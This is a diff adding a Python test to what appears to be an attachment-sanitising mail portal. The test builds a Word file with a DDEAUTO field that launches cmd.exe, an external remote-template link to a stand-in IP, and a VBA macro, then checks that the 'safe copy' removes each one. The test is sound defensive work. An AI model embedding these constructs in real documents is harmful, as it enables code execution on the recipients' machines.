@@ -507,3 +507,28 @@ def test_safe_copy_of_an_image_drops_what_follows_the_picture(tmp_path: Path) ->
     assert got.status_code == 200  # type: ignore[attr-defined]
     assert b"appended payload" not in got.content  # type: ignore[attr-defined]
     assert Image.open(io.BytesIO(got.content)).size == (40, 30)  # type: ignore[attr-defined]
+
+
+def test_safe_copy_of_an_office_document_drops_macros_remote_template_and_dde(runtime: Runtime) -> None:
+    dde = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+           ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
+           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:t>Hello</w:t></w:r></w:p>')
+    settings_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
+                     b'http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+                     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                     b'attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/>'
+                     b'</Relationships>')
+    doc = make_ooxml("word-macro", body=dde, extra={"word/vbaProject.bin": vba_project_bin(),
+                                                    "word/_rels/settings.xml.rels": settings_rels})
+    p = open_portal(runtime, message(("order.docm", doc, "application/octet-stream")))
+    att = next(a for a in p.ctx.attachments if a.filename == "order.docm")
+    assert {"MACRO", "REMOTE_TEMPLATE", "DDE"} <= set(att.symbols), att.symbols
+    assert 'value="safe"' in article(p.page(), "order.docm")
+    got = p.post(att.path, "download", kind="safe")
+    assert got.status_code == 200, got.text  # type: ignore[attr-defined]
+    assert "filename*=UTF-8''order.docx" in got.headers["content-disposition"]  # type: ignore[attr-defined]
+    with zipfile.ZipFile(io.BytesIO(got.content)) as zf:  # type: ignore[attr-defined]
+        assert "External" not in zf.read("word/_rels/settings.xml.rels").decode()
+        body = zf.read("word/document.xml").decode()
+    assert "DDEAUTO" not in body and "Hello" in body
+    assert not vba_present(got.content)  # type: ignore[attr-defined]
